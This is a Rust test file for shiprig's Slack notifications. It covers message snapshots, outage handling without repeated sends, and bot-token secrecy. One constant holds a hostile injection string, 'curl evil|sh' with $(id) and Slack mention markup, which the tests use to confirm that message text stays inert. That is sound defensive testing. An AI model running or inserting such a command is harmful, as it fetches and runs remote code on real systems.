//! Slack: every message shiprig renders (snapshots, hostile text kept as data), both
//! transports against the fake, and Slack failing mid-tick without costing GitHub state or
//! sending a message twice.

use shiprig::conductor;
use shiprig::emulator::slack::BOT_TOKEN;
use shiprig::notify::slack::render;
use shiprig::notify::{Event, Notifier, Slack};

use crate::support;
use crate::support::integrations::{
    agents_config, github_env, shiprig, tick_for, work_until_quiet, world,
};
use crate::support::text;

const HOSTILE: &str = "x\"; curl evil|sh; echo \" <!channel> <https://evil.example|click> *bold* & $(id)\n::stop-commands::";

fn events(title: &str) -> Vec<(&'static str, Event)> {
    let repo = "acme/widget".to_string();
    let url = "https://github.com/acme/widget/issues/7".to_string();
    let pr = "https://github.com/acme/widget/pull/9".to_string();
    vec![
        (
            "agent_started",
            Event::AgentStarted {
                repo: repo.clone(),
                issue: 7,
                title: title.into(),
                url: url.clone(),
                agent: "agent-1".into(),
            },
        ),
        (
            "pull_request_opened",
            Event::PullRequestOpened {
                repo: repo.clone(),
                number: 9,
                title: title.into(),
                url: pr.clone(),
                issue: Some(7),
                agent: Some("agent-1".into()),
            },
        ),
        (
            "human_review_needed",
            Event::HumanReviewNeeded {
                repo: repo.clone(),
                number: 9,
                title: title.into(),
                url: pr.clone(),
                categories: vec!["auth".into(), "payments".into()],
                approvers: vec!["@acme/security".into()],
            },
        ),
        (
            "human_review_needed_anyone",
            Event::HumanReviewNeeded {
                repo: repo.clone(),
                number: 9,
                title: title.into(),
                url: pr.clone(),
                categories: vec!["schema".into()],
                approvers: vec![],
            },
        ),
        (
            "milestone_complete",
            Event::MilestoneComplete {
                repo: repo.clone(),
                title: title.into(),
                url: "https://github.com/acme/widget/milestone/1".into(),
            },
        ),
        (
            "deploy_ok",
            Event::DeployFinished {
                repo: repo.clone(),
                environment: "staging".into(),
                sha: "0123456789abcdef".into(),
                ok: true,
                detail: "deployed in 42 s".into(),
                url: Some("https://staging.example.com".into()),
            },
        ),
        (
            "deploy_failed",
            Event::DeployFinished {
                repo: repo.clone(),
                environment: "production".into(),
                sha: "fedcba9876543210".into(),
                ok: false,
                detail: "./scripts/deploy.sh exited with 3".into(),
                url: None,
            },
        ),
        (
            "smoke_passed",
            Event::SmokeFinished {
                repo: repo.clone(),
                environment: "staging".into(),
                sha: Some("0123456789abcdef".into()),
                passed: true,
                failures: vec![],
            },
        ),
        (
            "smoke_failed",
            Event::SmokeFinished {
                repo: repo.clone(),
                environment: "production".into(),
                sha: None,
                passed: false,
                failures: vec!["health: answered 502".into(), title.into()],
            },
        ),
        (
            "agent_failed",
            Event::AgentFailed {
                repo: repo.clone(),
                issue: 7,
                title: title.into(),
                url: url.clone(),
                agent: "agent-2".into(),
                reason: "no pull request after 6h".into(),
            },
        ),
        (
            "critical_issue_filed",
            Event::CriticalIssueFiled {
                repo: repo.clone(),
                issue: 8,
                title: title.into(),
                url: "https://github.com/acme/widget/issues/8".into(),
            },
        ),
        (
            "fix_requested",
            Event::FixRequested {
                repo: repo.clone(),
                pull_request: 9,
                title: title.into(),
                url: pr.clone(),
                agent: "agent-1".into(),
                checks: vec!["test".into(), "lint".into()],
            },
        ),
        (
            "review_requested",
            Event::ReviewRequested {
                repo: repo.clone(),
                pull_request: 9,
                title: title.into(),
                url: pr.clone(),
                reviewer: "agent-2".into(),
                author: "agent-1".into(),
            },
        ),
        (
            "cycle_found",
            Event::CycleFound {
                repo,
                issue: 3,
                cycle: vec![3, 4, 3],
            },
        ),
    ]
}

#[test]
fn every_message_renders_as_snapshotted() {
    for (name, event) in events("Chat UI component") {
        insta::assert_json_snapshot!(name, render(&event));
    }
}

#[test]
fn hostile_text_stays_data() {
    for (name, event) in events(HOSTILE) {
        let message = render(&event);
        let all = message.to_string();
        assert!(!all.contains("<!channel>"), "{name}: {all}");
        assert!(!all.contains("<https://evil.example"), "{name}: {all}");
        assert!(!message["text"].as_str().unwrap().contains('\n'), "{name}");
    }
    insta::assert_json_snapshot!(
        "hostile_agent_failed",
        render(
            &events(HOSTILE)
                .into_iter()
                .find(|(n, _)| *n == "agent_failed")
                .unwrap()
                .1
        )
    );
}

#[test]
fn long_titles_are_cut() {
    let long = "a".repeat(10_000);
    for (name, event) in events(&long) {
        let text = render(&event)["text"].as_str().unwrap().to_string();
        assert!(text.len() < 1_000, "{name}: {} bytes", text.len());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn slack_down_during_a_tick_costs_no_github_state_and_no_repeat() {
    let world = world().await;
    world.seed_design_example();
    let notifier = Notifier {
        slack: Some(Slack::webhook(world.slack.url()).unwrap()),
    };
    let tick = tick_for(&world, &world.config, &notifier, None);
    world.slack.fail_next(1);
    let report = conductor::tick(&tick, world.gh.clock().now(), false)
        .await
        .unwrap();
    let applied = report.applied.unwrap();
    assert!(applied.ok(), "{:?}", applied.failed);
    let missed: Vec<_> = applied
        .notified
        .iter()
        .filter(|d| d.error.is_some())
        .collect();
    assert_eq!(missed.len(), 1, "{:?}", applied.notified);
    assert!(missed[0].error.as_deref().unwrap().contains("500"));
    let full = world.full_name();
    for n in [1, 2] {
        let issue = world.emulator.model().issue(&full, n).unwrap();
        assert!(
            issue.labels.iter().any(|l| l == "in-progress"),
            "#{n}: {:?}",
            issue.labels
        );
    }
    assert_eq!(world.emulator.model().workflow_runs(&full).len(), 2);
    assert_eq!(world.slack.texts().len(), 1);
    assert_eq!(world.slack.rejected(), 1);

    let before = world.emulator.writes().len();
    let again = conductor::tick(&tick, world.gh.clock().now(), false)
        .await
        .unwrap();
    assert!(again.plan.effects.is_empty());
    assert_eq!(world.emulator.writes().len(), before);
    assert_eq!(
        world.slack.texts().len(),
        1,
        "the missed message is never sent late"
    );

    shiprig::demo::agents::finish_dispatched(&world);
    work_until_quiet(&world, &world.config, &notifier, None).await;
    let texts = world.slack.texts();
    let started_1 = texts
        .iter()
        .filter(|t| t.contains("started on acme/widget #1 "))
        .count();
    let started_2 = texts
        .iter()
        .filter(|t| t.contains("started on acme/widget #2 "))
        .count();
    assert_eq!(started_1 + started_2, 1, "{texts:#?}");
    assert_eq!(
        texts.iter().filter(|t| t.contains("is complete")).count(),
        1
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_bot_token_posts_to_its_channel_and_ok_false_is_a_miss() {
    let world = world().await;
    world.seed_design_example();
    let bot = Slack::bot(world.slack.api_url(), BOT_TOKEN, "C0SHIPPING").unwrap();
    let notifier = Notifier { slack: Some(bot) };
    let tick = tick_for(&world, &world.config, &notifier, None);
    world.slack.refuse_next("channel_not_found");
    let applied = conductor::tick(&tick, world.gh.clock().now(), false)
        .await
        .unwrap()
        .applied
        .unwrap();
    assert!(applied.ok());
    let errors: Vec<&str> = applied
        .notified
        .iter()
        .filter_map(|d| d.error.as_deref())
        .collect();
    assert_eq!(errors.len(), 1);
    assert!(errors[0].contains("channel_not_found"), "{errors:?}");
    let messages = world.slack.messages();
    assert_eq!(messages.len(), 1);
    assert_eq!(messages[0]["channel"], "C0SHIPPING");

    let wrong = Slack::bot(world.slack.api_url(), "xoxb-wrong", "C0SHIPPING").unwrap();
    let event = Event::CriticalIssueFiled {
        repo: "acme/widget".into(),
        issue: 5,
        title: "t".into(),
        url: "u".into(),
    };
    let error = format!("{:#}", wrong.post(&event).await.unwrap_err());
    assert!(
        error.contains("invalid_auth") && !error.contains("xoxb-wrong"),
        "{error}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn the_binary_uses_the_bot_token_when_config_names_one() {
    let world = world().await;
    world.seed_design_example();
    let config = format!(
        "{}notify:\n  slack: {{bot_token_env: SLACK_BOT_TOKEN, channel: '#shipping'}}\n",
        agents_config()
    );
    let (_dir, path) = support::integrations::file("shiprig.yml", &config);
    let mut env = github_env(&world);
    env.push(("SLACK_BOT_TOKEN".into(), BOT_TOKEN.into()));
    env.push(("SLACK_API_URL".into(), world.slack.api_url().into()));
    let out = shiprig(&["--config", &path, "--json", "conductor", "tick"], env).await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let messages = world.slack.messages();
    assert_eq!(messages.len(), 2);
    assert!(messages.iter().all(|m| m["channel"] == "#shipping"));
    assert!(!text(&out.stdout).contains(BOT_TOKEN) && !text(&out.stderr).contains(BOT_TOKEN));
}
